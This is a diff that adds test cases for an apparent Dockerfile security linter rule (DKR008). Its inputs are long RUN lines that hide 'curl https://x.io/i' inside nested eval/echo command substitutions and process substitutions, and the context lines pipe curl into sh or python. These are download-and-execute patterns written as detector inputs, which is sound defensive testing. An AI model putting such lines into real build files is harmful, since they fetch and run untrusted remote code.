@@ -127,6 +127,25 @@ CASES = {
         + " | sh\n",
         "DKR008",
     ),
+    # Each substitution is a script read again: nested ones only so deep, and where a command
+    # runs their output is found once for all of them.
+    "dockerfile-nested-substitutions": (
+        "Dockerfile",
+        "FROM python:3.12-slim\nUSER app\nRUN "
+        + 'eval "$(echo ' * (LONG // 24)
+        + "curl https://x.io/i"
+        + ')"' * (LONG // 24)
+        + " && $(curl https://x.io/i)\n",
+        "DKR008",
+    ),
+    "dockerfile-many-process-substitutions": (
+        "Dockerfile",
+        "FROM python:3.12-slim\nUSER app\nRUN bash "
+        + "<(echo $(echo a)) " * (LONG // 36)
+        + "< <(curl https://x.io/i) " * (LONG // 50)
+        + "\n",
+        "DKR008",
+    ),
     "dockerfile-interpreter-digits": (
         "Dockerfile",
         "FROM python:3.12-slim\nRUN curl -fsSL https://x.io/i | python" + "3" * LONG + "x\n",
